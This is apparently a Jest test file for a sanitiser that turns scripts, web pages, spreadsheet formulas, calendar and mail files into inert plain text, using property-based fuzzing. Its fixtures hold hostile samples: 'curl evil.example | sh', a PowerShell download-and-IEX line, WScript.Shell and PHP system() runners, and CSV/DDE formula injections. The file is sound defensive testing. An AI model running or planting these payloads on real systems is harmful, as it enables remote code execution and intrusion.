/** Texts that would act when opened come out as words: their content says text, and what they said can still be read. */
import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import type { Disarmed } from '../../../src/core/disarmed.ts'
import { detectType } from '../../../src/parse/file/type.ts'
import { disarm } from '../../../src/release/disarm/disarm.ts'
import { quietFormulas } from '../../../src/release/disarm/inert-text.ts'
import { makeMail } from '../../support/mail.ts'

const WORDS = new Set(['text/plain', 'text/csv', 'application/json', 'text/vtt'])

function done(made: Disarmed) {
  if (made.status !== 'done') throw new Error(made.reason)
  return { ...made, text: Buffer.from(made.bytes).toString('utf8') }
}
const textOf = async (source: string | Uint8Array, type: string) => done(await disarm(Buffer.from(source as string), type))

describe('disarming a text', () => {
  it('quiets what starts a program in a text that may be a table, and leaves a list of dashes as it is', async () => {
    const made = await disarm(Buffer.from('name,phone\n- one\n=cmd|calc!A1,070\n'), 'text/plain')
    expect(made).toMatchObject({ status: 'done', losses: [{ kind: 'formulas', count: 1 }] })
    expect(made.status === 'done' ? Buffer.from(made.bytes).toString() : '').toBe("\ufeffname,phone\n- one\n'=cmd|calc!A1,070\n")
  })

  it.each([
    ['text/html', '<!doctype html><html><script>alert(1)</script>'],
    ['application/xhtml+xml', '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'],
    ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['text/xml', '<?xml version="1.0"?><a/>'],
    ['application/hta', '<html><hta:application id="a"><script>new ActiveXObject("WScript.Shell")</script></html>'],
    ['text/javascript', 'var a = new ActiveXObject("WScript.Shell")\na.Run("calc")'],
    ['text/vbscript', 'Set a = CreateObject("WScript.Shell")\na.Run "calc"'],
    ['application/x-powershell', '$a = New-Object Net.WebClient\nIEX $a.DownloadString("http://evil.example/")'],
    ['application/x-bat', '@echo off\nstart calc.exe'],
    ['text/x-shellscript', '#!/bin/sh\ncurl evil.example | sh'],
    ['application/x-php', '#!/usr/bin/php\n<?php system("id");'],
    ['application/x-mswinurl', '[InternetShortcut]\nURL=file://evil.example/a.exe'],
    ['application/x-desktop', '[Desktop Entry]\nExec=calc'],
    ['application/x-scf', '[Shell]\nCommand=2'],
    ['application/x-ms-regedit', 'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\a]'],
    ['text/x-sylk', 'ID;P\nC;X1;Y1;EEXEC("calc")\nE'],
    ['text/x-ms-iqy', 'WEB\n1\nhttp://evil.example/a'],
    ['text/calendar', 'BEGIN:VCALENDAR\nBEGIN:VEVENT\nURL:http://evil.example\nEND:VEVENT\nEND:VCALENDAR'],
    ['text/vcard', 'BEGIN:VCARD\nURL:http://evil.example\nEND:VCARD'],
  ])('of the type %s gives words alone, in which the source can be read', async (type, source) => {
    expect(await detectType(Buffer.from(source))).toBe(type)
    const made = await textOf(source, type)
    expect(made).toMatchObject({ type: 'text/plain', extension: '.txt', losses: [{ kind: 'formatting', count: 1 }] })
    expect(WORDS).toContain(await detectType(made.bytes))
    expect(
      made.text
        .slice(1)
        .replace(/^\| /gm, '')
        .replace(/< (?=[a-z/!?])/gi, '<'),
    ).toBe(source)
  })

  it('leaves no tag for a browser that opens it under another name', async () => {
    const { text } = await textOf('<html><body onload=a()><scr\u200bipt>x</script><!--<img src=x>--><?php x ?></html>', 'text/html')
    expect(text).not.toMatch(/<[a-z/!?]/i)
  })

  it('goes by what a file says of its characters', async () => {
    expect((await textOf(Buffer.from('\ufeffnamn;ort\r\nÅsa;Växjö', 'utf16le'), 'text/csv')).text).toBe('\ufeffnamn;ort\nÅsa;Växjö')
    expect((await textOf(Buffer.from('namn;ort\nÅsa;Ö', 'latin1'), 'text/csv')).text).toBe('\ufeffnamn;ort\nÅsa;Ö')
    const cyrillic = Buffer.concat([Buffer.from('<?xml version="1.0" encoding="windows-1251"?><a>'), Buffer.from([0xcf, 0xf0])])
    expect((await textOf(cyrillic, 'text/xml')).text).toContain('Пр')
  })

  it('tells controls and characters that nobody sees, and passes none of them on', async () => {
    const made = await textOf('a\u001b[2Jb\u0007\nif (admin\u202e \u2066// x\u2069) {}\u200b', 'text/plain')
    expect(made.losses).toEqual([
      { kind: 'unprintable', count: 2 },
      { kind: 'invisible', count: 4 },
    ])
    expect(made.text.slice(1)).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202a-\u202e\u2066-\u2069\u200b]/)
  })

  it('leaves plain words as they are, and says that nothing had to go', async () => {
    expect(await textOf('Hej <b@example.com>, 1 < 2\n', 'text/plain')).toMatchObject({
      text: '\ufeffHej <b@example.com>, 1 < 2\n',
      losses: [],
    })
  })

  it('lists words that turn out to be a page once the unseen is gone', async () => {
    const made = await textOf('\u200b<html><script>alert(1)</script></html>', 'text/plain')
    expect(made.text).toContain('| < html>')
    expect(await detectType(made.bytes)).toBe('text/plain')
  })

  it('takes the formulas out of a table and leaves its numbers', async () => {
    const table = 'name,sum,phone\n=HYPERLINK("http://evil.example"),-12.50,+46 70 123\n"=cmd|\' /C calc\'!A0",@SUM(1),-a+1\n'
    const made = await textOf(table, 'text/csv')
    expect(made.text.slice(1)).toBe(
      "name,sum,phone\n'=HYPERLINK(\"http://evil.example\"),-12.50,+46 70 123\n\"'=cmd|' /C calc'!A0\",'@SUM(1),'-a+1\n",
    )
    expect(made.losses).toEqual([{ kind: 'formulas', count: 4 }])
  })

  it('gives of a mail who wrote what to whom, and none of its files', async () => {
    const raw = makeMail({
      html: '<p>See <a href="https://evil.example/a">here</a></p><script>alert(1)</script>',
      files: [{ type: 'application/pdf', name: 'a.pdf', body: Buffer.from('%PDF-1.4') }],
    })
    const made = await textOf(raw, 'message/rfc822')
    expect(made.text).toContain('See here (hxxps://evil[.]example/a)')
    expect(made.text).not.toContain('alert')
    expect(made.losses).toEqual([
      { kind: 'formatting', count: 1 },
      { kind: 'attachments', count: 1 },
    ])
    expect(await detectType(made.bytes)).toBe('text/plain')
  })

  it('refuses what is too large, and a mail that cannot be read wholly', async () => {
    expect(await disarm(Buffer.alloc(16 * 1024 * 1024 + 1, 0x61), 'text/html')).toEqual({ status: 'refused', reason: 'DISARM_TOO_LARGE' })
    const deep = `${'Content-Type: message/rfc822\n\n'.repeat(60)}From: a@b.c\n\nx`
    expect(await disarm(Buffer.from(deep), 'message/rfc822')).toEqual({ status: 'refused', reason: 'DISARM_CORRUPT' })
  })

  it('never throws, always gives the same, and never gives more than words', async () => {
    const pieces = [
      '<html>',
      '<script>',
      '| ',
      '\u202e',
      '\u200b',
      '=cmd',
      ',',
      '\n',
      '\0',
      'BEGIN:VCARD\n',
      '[InternetShortcut]\n',
      '#!/bin/sh\n',
      'ID;P',
    ]
    const source = fc.oneof(
      fc.uint8Array({ maxLength: 200 }),
      fc.array(fc.constantFrom(...pieces), { maxLength: 20 }).map((all) => new Uint8Array(Buffer.from(all.join('')))),
    )
    await fc.assert(
      fc.asyncProperty(
        source,
        fc.constantFrom('text/plain', 'text/html', 'text/csv', 'text/javascript', 'message/rfc822'),
        async (bytes, type) => {
          const made = await disarm(bytes, type)
          expect(await disarm(bytes, type)).toEqual(made)
          if (made.status === 'done') expect(WORDS).toContain(await detectType(made.bytes))
        },
      ),
      { numRuns: 300, seed: 7 },
    )
  })
})

describe('quietFormulas', () => {
  it.each([
    ['=1', "'=1"],
    ['a;=1', "a;'=1"],
    ['  "=1"', '  "\'=1"'],
    ['\uff1d1', "'\uff1d1"],
    ['-5', '-5'],
    ['-5+cmd|x', "'-5+cmd|x"],
    ['+46 (0)70-123 45', '+46 (0)70-123 45'],
    ['a=1', 'a=1'],
    ['', ''],
  ])('makes %j %j', (cell, quiet) => {
    expect(quietFormulas(cell).text).toBe(quiet)
  })

  it('takes time linear in the table', () => {
    expect(quietFormulas(' '.repeat(500_000).concat('='.repeat(500_000))).count).toBe(1)
  })
})
